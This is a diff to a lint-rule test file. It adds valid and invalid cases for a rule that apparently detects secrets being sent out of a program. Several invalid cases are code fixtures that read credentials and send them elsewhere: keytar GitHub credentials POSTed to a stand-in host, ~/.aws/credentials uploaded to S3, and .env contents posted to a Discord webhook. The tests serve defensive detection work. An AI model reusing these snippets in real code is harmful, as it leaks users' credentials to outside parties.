@@ -3,6 +3,7 @@ import { ruleTester } from '../tester.ts';
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import keytar from "keytar"; const token = await keytar.getPassword("app", "me"); await fetch("https://api.example-service.com/me", { headers: { authorization: token } });' },
     // uploads of ordinary files, pixels without a cookie, streams that stay
     { code: 'import { S3Client, PutObjectCommand } from "@aws-sdk/client-s3"; import fs from "node:fs"; await new S3Client({}).send(new PutObjectCommand({ Bucket: "x", Key: "k", Body: fs.createReadStream("dist/app.js") }));' },
     { code: 'import nodemailer from "nodemailer"; nodemailer.createTransport({}).sendMail({ to, text: `${os.hostname()} is up`, html: token });' },
@@ -102,6 +103,7 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
+    { code: 'import keytar from "keytar"; const all = await keytar.findCredentials("github"); fetch("https://a.example-service.com", { method: "POST", body: JSON.stringify(all) });', errors: [{ messageId: 'sent' }] },
     // libraries that upload; pipelines; what a browser loads
     { code: 'import { S3Client, PutObjectCommand } from "@aws-sdk/client-s3"; import fs from "node:fs"; await new S3Client({}).send(new PutObjectCommand({ Bucket: "x", Key: "k", Body: fs.createReadStream(process.env.HOME + "/.aws/credentials") }));', errors: [{ messageId: 'sent' }] },
     { code: 'import { WebhookClient } from "discord.js"; import { readFileSync } from "fs"; new WebhookClient({ id: "1", token: t }).send({ content: readFileSync(".env", "utf8") });', errors: [{ messageId: 'sent' }] },
